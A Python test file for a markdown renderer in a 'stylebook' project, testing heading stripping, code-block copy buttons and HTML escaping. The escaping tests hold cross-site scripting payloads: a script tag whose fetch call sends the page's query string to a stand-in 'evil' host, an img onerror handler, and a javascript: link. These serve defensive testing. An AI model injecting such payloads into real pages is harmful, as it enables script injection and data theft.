import html
import re

from stylebook.render.content import code_block_text, render_content, strip_heading


def test_strip_heading():
    assert strip_heading("## Title\nBody\nMore") == "Body\nMore"
    assert strip_heading("## Title") == ""


def test_heading_only_section_renders_nothing():
    assert render_content("## Empty") == ""
    assert render_content("## Empty\n\n   \n") == ""


def test_renders_prose_and_lists():
    rendered = render_content("## Typography\nUse a *sans-serif* font.\n\n- one\n- two")

    assert "<em>sans-serif</em>" in rendered
    assert "<li>one</li>" in rendered
    assert "Typography" not in rendered


def test_fenced_code_gets_copy_button():
    content = '## CSS\n```css\n.btn { color: "#5D5FEF"; }\na < b && c\n```\n'

    rendered = render_content(content)

    match = re.search(r'data-copy="([^"]*)"', rendered)
    assert match is not None
    assert html.unescape(match.group(1)) == '.btn { color: "#5D5FEF"; }\na < b && c'
    assert '<div class="code-block">' in rendered


def test_inline_code_has_no_copy_button():
    rendered = render_content("## Tokens\nUse `--brand-primary` everywhere.")

    assert "<code>--brand-primary</code>" in rendered
    assert "copy-code" not in rendered


def test_code_block_text_trims_one_newline():
    assert code_block_text("a &lt; b\n") == "a < b"
    assert code_block_text("x\n\n") == "x\n"


def test_raw_html_is_escaped():
    rendered = render_content(
        "## Notes\n<script>fetch('https://evil/?'+location.search)</script>\n\n"
        "Inline <img src=x onerror=alert(1)> tag."
    )

    assert "<script>" not in rendered
    assert "&lt;script&gt;" in rendered
    assert "<img" not in rendered
    assert "&lt;img" in rendered


def test_script_links_lose_their_target():
    rendered = render_content("## Links\n[click](javascript:alert(1)) and [docs](https://example.com)")

    assert "javascript:" not in rendered
    assert 'href="https://example.com"' in rendered


def test_indented_code_has_no_copy_button():
    rendered = render_content("## Snippet\nIntro paragraph.\n\n    indented = True\n")

    assert "<pre><code>indented = True" in rendered
    assert "copy-code" not in rendered


def test_fenced_code_without_language_gets_copy_button():
    rendered = render_content("## Snippet\n```\nplain\n```\n")

    assert rendered.count('class="copy-code"') == 1
    assert 'data-copy="plain"' in rendered
